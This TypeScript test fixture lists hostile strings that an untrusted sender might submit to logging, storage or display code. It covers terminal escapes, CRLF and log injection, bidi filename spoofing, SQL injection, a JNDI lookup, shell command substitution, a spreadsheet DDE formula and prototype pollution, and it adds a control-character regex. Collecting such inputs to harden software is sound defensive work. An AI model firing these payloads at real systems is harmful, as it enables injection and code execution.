/** Strings that a stranger may send, for everything that is logged, stored, counted or shown. */
export const hostile: readonly string[] = [
  '\x1b[2J\x1b[1;31mroot\x07',
  'a\r\nInjected: yes\r\n',
  'nul\0nul',
  '\u2028line\u2029para',
  '\u202egnp.exe\u202c\u2066x\u2069',
  '\u200bzero\ufeffwidth\u00adsoft',
  '\x7f\x80\x9b31m',
  '\ud800lone\udfff',
  `'; DROP TABLE attempts; --`,
  '%s%n ${jndi:ldap://x} {{7*7}} `id` $(id)',
  '"}\n{"level":"error"',
  '=cmd|calc!A1',
  '__proto__',
  '{network="x",class="y"} 1\n# HELP',
  'ü'.repeat(70_000),
  'x'.repeat(1_000_000),
];

/** Octets that may never stand raw in a line: C0 but the line's end, DEL, C1, separators, direction controls. */
// oxlint-disable-next-line no-control-regex -- these are what is looked for
export const RAW_CONTROL = /[\0-\t\v-\x1f\x7f-\x9f\u061c\u200b-\u200f\u2028-\u202e\u2060-\u206f\ufeff]/;
